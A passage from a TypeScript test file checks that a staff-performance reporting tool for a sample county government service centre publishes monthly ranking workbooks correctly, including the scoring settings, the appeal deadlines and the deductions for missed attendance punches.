  it("publishes a workbook for every month the run recomputed into <out>/reports/<month>/", async () => {
    const { lines, published } = await publish("default");
    expect(published.getWorksheet("个人排名")?.getCell("A1").value).toBe(
      "示例县政务服务中心 2026年10月 窗口工作人员月度考核排名（公示）",
    );
    expect(sheetRows(published.getWorksheet("个人排名")!)[3]?.slice(2, 4)).toEqual(["S0001", "张三"]);
    expect(lines.join("\n")).toContain("示例县政务服务中心_2026年10月_绩效考核.xlsx");
  });

  it("prints on 说明 the score.base, grace minutes and appeal window of the hall's configuration file", async () => {
    const { published } = await publish("configured", {
      score: { base: 90 },
      attendance: { grace_minutes: 5 },
      appeals: { window_working_days: 3 },
    });
    const rows = sheetRows(published.getWorksheet("说明")!);
    const item = (name: string) => String(rows.find((row) => row[0] === name)?.[1]);
    expect(item("得分计算")).toMatch(/^基础分 90 分，/);
    expect(item("申诉截止日")).toBe("2026-11-04");
    expect(item("申诉办法")).toMatch(/^对本月结果有异议的，请于月末后 3 个工作日内（截至 2026-11-04）/);
    const setting = (key: string) => block(rows, "条款").find((row) => row[3] === key)?.[2];
    expect([
      setting("score.base"),
      setting("attendance.grace_minutes"),
      setting("appeals.window_working_days"),
    ]).toEqual(["90 分", "5 分钟", "3 个工作日"]);
    expect(block(rows, "规则代码").find((row) => row[0] === "ATT_LATE")?.[5]).toMatch(
      /^上班打卡晚于应到时间加 5 分钟宽限；/,
    );
    // 90 less the two punches missing at noon (−2 each); 08:35:00 is on time with 5 minutes' grace
    expect(sheetRows(published.getWorksheet("个人排名")!)[3]?.slice(2, 7)).toEqual([
      "S0001",
      "张三",
      "市场监管局",
      "A01",
      86,
    ]);
    expect(block(sheetRows(published.getWorksheet("加扣分明细")!), "事件编号").map((row) => row[0])).toEqual([
      "ATT_MISS:S0001:2026-10-09:AM",
      "ATT_MISS:S0001:2026-10-09:PM",
    ]);
  });
});
